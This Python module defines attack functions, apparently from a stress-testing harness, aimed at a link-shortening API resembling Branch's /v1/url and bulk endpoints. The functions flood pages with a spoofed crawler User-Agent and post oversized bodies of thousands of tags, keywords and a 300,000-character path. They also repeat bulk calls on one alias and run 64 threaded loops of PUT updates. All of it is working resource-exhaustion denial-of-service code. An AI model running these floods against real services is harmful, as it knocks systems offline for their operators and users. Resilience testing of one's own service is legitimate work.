"""Links that are as large as links may be, or larger."""

from multiprocessing.pool import ThreadPool

from attacks.registry import attack
from attacks.sending import flood, lasting
from traffic import PROCESSES, Outcome, ask, pipeline, request


@attack
def pages_of_large_links(target, until, number):
    """the pages of links that are as large as links may be"""
    bots = {"User-Agent": "facebookexternalhit/1.1", "Accept": "text/html"}
    return flood(target, until, [request("GET", path, headers=bots) for path in target.large] * 4)


@attack
def too_large_links(target, until, number):
    """links and bulk calls beyond their bounds"""
    tags = {f"tag{index}": "g" for index in range(5000)}
    bodies = [
        request("POST", "/v1/url", {"branch_key": target.key, "data": data})
        for data in ({"$custom_meta_tags": tags}, {"$keywords": ["pear"] * 10_000}, {"$deeplink_path": "a" * 300_000})
    ]
    bulk = request("POST", f"/v1/url/bulk/{target.key}", [{}] * 30_000)
    return flood(target, until, bodies + [bulk])


@attack
def bulk_of_one_alias(target, until, number):
    """bulk calls that name one large link a thousand times, by its alias or as retries of one call"""
    data = {f"key{index}": f"{index:060}" for index in range(900)}
    large = {"branch_key": target.key, "alias": f"large{number}", "data": data, "branch_sdk_request_unique_id": f"large{number}"}
    outcome = Outcome()
    pipeline(target.port, [request("POST", "/v1/url", large)], outcome)
    items = ({"alias": f"large{number}", "channel": "x"}, {"branch_sdk_request_unique_id": f"large{number}"})
    calls = [request("POST", f"/v1/url/bulk/{target.key}", [item] * 1000) for item in items]
    for _ in lasting(until):
        pipeline(target.port, calls, outcome)
    return outcome


@attack
def put_loop(target, until, number):
    """updates of one large link on many connections at once"""
    link = {"branch_key": target.key, "branch_secret": target.secret, "data": {f"key{index}": "g" * 50 for index in range(900)}}
    outcome = Outcome()
    url = ask(target.port, "POST", "/v1/url", link)["url"]
    change = {"branch_key": target.key, "branch_secret": target.secret, "data": {"n": "1"}}
    put = request("PUT", f"/v1/url?url={url}", change)

    def repeat(_):
        outcome = Outcome()
        for _ in lasting(until):
            pipeline(target.port, [put], outcome)
        return outcome

    with ThreadPool(64 // PROCESSES) as pool:
        for part in pool.imap_unordered(repeat, range(64 // PROCESSES)):
            outcome.add(part)
    return outcome
